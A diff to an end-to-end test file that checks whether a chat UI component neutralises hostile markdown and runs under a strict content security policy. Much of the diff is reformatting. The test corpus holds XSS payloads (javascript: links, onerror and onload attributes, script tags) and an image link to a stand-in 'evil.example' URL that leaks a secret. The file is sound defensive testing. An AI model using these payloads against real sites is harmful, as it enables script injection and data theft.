@@ -3,7 +3,7 @@
 import json
 
 import pytest
-from playwright.sync_api import Page, expect
+from playwright.sync_api import Page, Route, expect
 
 from tests.e2e.element.conftest import Chat, Server
 
@@ -38,12 +38,12 @@ CORPUS = [
     "[x][y]\n\n[y]: javascript:window.pwned=1",
     "<javascript:window.pwned=1>",
     "![x](javascript:window.pwned=1)",
-    "![x](x\" onerror=\"window.pwned=1)",
+    '![x](x" onerror="window.pwned=1)',
     "![x](https://evil.example/leak?secret=1)",
     "![x](data:image/svg+xml,<svg/onload=window.pwned=1>)",
-    "[x](https://good.example \"title\\\" onmouseover=\\\"window.pwned=1\")",
+    '[x](https://good.example "title\\" onmouseover=\\"window.pwned=1")',
     "```html\n<script>window.pwned = 1</script>\n```",
-    "```\"><script>window.pwned=1</script>\nx\n```",
+    '```"><script>window.pwned=1</script>\nx\n```',
     "`<img src=x onerror=window.pwned=1>`",
     "| <script>window.pwned=1</script> | b |\n|---|---|\n| <img src=x onerror=window.pwned=1> | d |",
     "# <svg onload=window.pwned=1>",
@@ -66,13 +66,35 @@ def items(text: str, index: int) -> list[dict]:
         {"type": "web_search", "title": text, "queries": [text], "sources": [source]},
         {"type": "file", "sources": [{"type": "file", "title": text, "filename": text}]},
     ]
-    annotations = [{"type": "annotation", "source": source}, {"type": "annotation", "source": {"type": "entity", "id": text, "title": text, "icon": text}}]
-    question = {"type": "multiple_choice", "id": text, "question": text, "options": [{"value": text}], "answer": {"values": [text], "skipped": False}}
+    annotations = [
+        {"type": "annotation", "source": source},
+        {"type": "annotation", "source": {"type": "entity", "id": text, "title": text, "icon": text}},
+    ]
+    question = {
+        "type": "multiple_choice",
+        "id": text,
+        "question": text,
+        "options": [{"value": text}],
+        "answer": {"values": [text], "skipped": False},
+    }
     everything = [
-        {"type": "user_message", "content": [{"type": "input_text", "text": text}, {"type": "input_tag", "id": "a", "text": text}], "quoted_text": text,
-         "attachments": [{"type": "image", "id": text, "name": text, "mime_type": text, "preview_url": text}], "inference_options": {}},
+        {
+            "type": "user_message",
+            "content": [{"type": "input_text", "text": text}, {"type": "input_tag", "id": "a", "text": text}],
+            "quoted_text": text,
+            "attachments": [{"type": "image", "id": text, "name": text, "mime_type": text, "preview_url": text}],
+            "inference_options": {},
+        },
         {"type": "assistant_message", "content": [{"type": "output_text", "text": text, "annotations": annotations}]},
-        {"type": "workflow", "workflow": {"type": "reasoning", "expanded": True, "tasks": tasks, "summary": {"title": text, "icon": text}}},
+        {
+            "type": "workflow",
+            "workflow": {
+                "type": "reasoning",
+                "expanded": True,
+                "tasks": tasks,
+                "summary": {"title": text, "icon": text},
+            },
+        },
         {"type": "widget", "widget": {"type": text}, "copy_text": text},
         {"type": "generated_image", "image": {"id": text, "url": text}},
         {"type": "structured_input", "status": "answered", "inputs": [question]},
@@ -88,18 +110,30 @@ def hostile(server: Server, page: Page) -> Page:
     every = [item for index, text in enumerate(CORPUS) for item in items(text, index)]
     thread = {"id": "t", "title": CORPUS[0], "created_at": "2026-01-01T00:00:00", "status": {"type": "active"}}
     notices = [{"type": "notice", "level": "danger", "title": text, "message": text} for text in CORPUS[:20]]
-    frames = "".join(f"data: {json.dumps(event)}\n\n" for event in [*notices, {"type": "progress_update", "text": CORPUS[1], "icon": CORPUS[2]}])
+    frames = "".join(
+        f"data: {json.dumps(event)}\n\n"
+        for event in [*notices, {"type": "progress_update", "text": CORPUS[1], "icon": CORPUS[2]}]
+    )
 
-    def answer(route) -> None:
+    def answer(route: Route) -> None:
         if "get_by_id" in (route.request.post_data or ""):
             route.fulfill(json={**thread, "items": {"data": every, "has_more": False}})
         elif "threads.list" in (route.request.post_data or ""):
-            route.fulfill(json={"data": [{**thread, "id": str(n), "title": text} for n, text in enumerate(CORPUS)], "has_more": False})
+            route.fulfill(
+                json={
+                    "data": [{**thread, "id": str(n), "title": text} for n, text in enumerate(CORPUS)],
+                    "has_more": False,
+                }
+            )
         else:
             route.fulfill(body=frames, content_type="text/event-stream")
 
     page.route("**/chatkit", answer)
-    page.goto(server.url(options={"initialThread": "t", "disclaimer": {"text": CORPUS[1]}, "startScreen": {"greeting": CORPUS[0]}}))
+    page.goto(
+        server.url(
+            options={"initialThread": "t", "disclaimer": {"text": CORPUS[1]}, "startScreen": {"greeting": CORPUS[0]}}
+        )
+    )
     return page
 
 
@@ -113,13 +147,23 @@ def test_nothing_of_the_corpus_runs_or_loads(server: Server, hostile: Page, chat
         button.evaluate("element => element.click()")
     chat.root.get_by_role("button", name="History", exact=True).click()
     expect(chat.root.locator(".thread-title")).to_have_count(len(CORPUS))
-    forbidden = chat.root.locator("script, iframe, object, embed, style, base, meta, link, template, form[action], svg script")
+    forbidden = chat.root.locator(
+        "script, iframe, object, embed, style, base, meta, link, template, form[action], svg script"
+    )
     expect(forbidden).to_have_count(0)
     attributes = chat.root.evaluate("""element => [...element.shadowRoot.querySelectorAll('*')].flatMap(node =>
-        [...node.attributes].filter(a => a.name.startsWith('on') || /^\\s*(javascript|vbscript)\\s*:|^\\s*data:text/i.test(a.value)).map(a => a.name + '=' + a.value))""")
+        [...node.attributes]
+            .filter(a => a.name.startsWith('on') || /^\\s*(javascript|vbscript)\\s*:|^\\s*data:text/i.test(a.value))
+            .map(a => a.name + '=' + a.value))""")
     assert [entry for entry in attributes if not entry.startswith(("title=", "alt=", "data-"))] == []
-    links = chat.root.evaluate("""element => [...element.shadowRoot.querySelectorAll('[href], [src]')].map(node => node.href || node.src)""")
-    assert [link for link in links if not str(link).startswith((server.origin, "https://good.example", "https://evil.example"))] == []
+    links = chat.root.evaluate(
+        """element => [...element.shadowRoot.querySelectorAll('[href], [src]')].map(node => node.href || node.src)"""
+    )
+    assert [
+        link
+        for link in links
+        if not str(link).startswith((server.origin, "https://good.example", "https://evil.example"))
+    ] == []
     assert hostile.evaluate("window.pwned") == 0
     assert [url for url in requested if not url.startswith((server.origin, "data:"))] == []
 
@@ -128,7 +172,10 @@ def test_clicking_every_link_of_the_corpus_runs_nothing(hostile: Page, chat: Cha
     expect(chat.root.locator(".message.assistant")).to_have_count(len(CORPUS))
     hostile.route("https://*.example/**", lambda route: route.abort())
     chat.root.evaluate("""element => {
-        for (const link of element.shadowRoot.querySelectorAll('a')) { link.target = '_self'; link.addEventListener('click', e => e.preventDefault()); link.click(); }
+        for (const link of element.shadowRoot.querySelectorAll('a')) {
+            link.target = '_self';
+            link.click();
+        }
     }""")
     assert hostile.evaluate("window.pwned") == 0
 
@@ -141,11 +188,17 @@ def test_hostile_text_is_shown_as_the_text_it_is(server: Server, page: Page, cha
 
 
 def test_the_element_works_under_a_strict_content_security_policy(server: Server, page: Page, chat: Chat) -> None:
-    policy = "default-src 'none'; script-src 'self' 'unsafe-inline'; connect-src 'self'; style-src 'self'; img-src 'self' data:"
+    policy = (
+        "default-src 'none'; script-src 'self' 'unsafe-inline'; connect-src 'self'; style-src 'self'; "
+        "img-src 'self' data:"
+    )
     violations: list[str] = []
-    page.on("console", lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None)
+    page.on(
+        "console",
+        lambda message: violations.append(message.text) if "Content Security Policy" in message.text else None,
+    )
 
-    def add_policy(route) -> None:
+    def add_policy(route: Route) -> None:
         response = route.fetch()
         body = response.text().replace("<style>", "<style hidden>")
         route.fulfill(response=response, body=body, headers={**response.headers, "content-security-policy": policy})
